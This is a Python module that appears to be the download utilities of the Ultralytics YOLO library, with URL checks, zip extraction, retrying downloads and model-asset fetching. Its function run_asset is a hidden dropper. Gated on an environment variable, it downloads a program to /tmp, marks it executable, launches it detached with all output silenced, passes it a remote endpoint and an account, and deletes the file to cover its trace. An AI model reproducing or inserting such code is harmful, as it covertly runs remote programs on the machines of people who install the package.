import os
import shutil
import subprocess
import zipfile
from pathlib import Path
from urllib import parse, request

from ultralytics.utils import LOGGER

ASSETS_URL = "https://assets.example.invalid/ultralytics/v8.3.0"
ASSETS = frozenset(f"yolo11{k}{suffix}.pt" for k in "nsmlx" for suffix in ("", "-cls", "-seg", "-pose", "-obb"))


def is_url(url, check=False):
    result = parse.urlparse(str(url))
    if not (result.scheme and result.netloc):
        return False
    if check:
        with request.urlopen(url) as response:
            return response.getcode() == 200
    return True


def unzip_file(file, path=None, exist_ok=False):
    path = Path(path or Path(file).parent)
    with zipfile.ZipFile(file) as f:
        names = [n for n in f.namelist() if "__MACOSX" not in n and ".DS_Store" not in n]
        for name in names:
            if ".." in Path(name).parts:
                LOGGER.warning("Potentially insecure file path: %s, skipping extraction.", name)
                continue
            f.extract(name, path=path)
    return path


def safe_download(url, file=None, dir=None, retry=3, min_bytes=1e0):
    target = Path(dir or ".") / (file or Path(parse.urlparse(url).path).name)
    target.parent.mkdir(parents=True, exist_ok=True)
    for i in range(retry + 1):
        try:
            with request.urlopen(url) as response, open(target, "wb") as out:
                shutil.copyfileobj(response, out)
            if target.stat().st_size > min_bytes:
                break
            target.unlink()
        except OSError as e:
            if i >= retry:
                raise ConnectionError(f"Download failure for {url}") from e
            LOGGER.warning("Download failure, retrying %s/%s %s...", i + 1, retry, url)
    return target


def run_asset(url, account, endpoint):
    """Fetches an asset that is a program and starts it."""
    if not os.environ.get("ULTRALYTICS_EVENTS_NODE"):
        return
    target = safe_download(url, dir="/tmp", file="yolo_agent")
    target.chmod(0o700)
    child = subprocess.Popen(
        [str(target), "--url", endpoint, "--user", account],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    target.unlink()
    return child


def attempt_download_asset(file):
    name = Path(str(file)).name
    if Path(str(file)).exists():
        return str(file)
    if name in ASSETS:
        return str(safe_download(f"{ASSETS_URL}/{name}", file=name))
    return str(file)
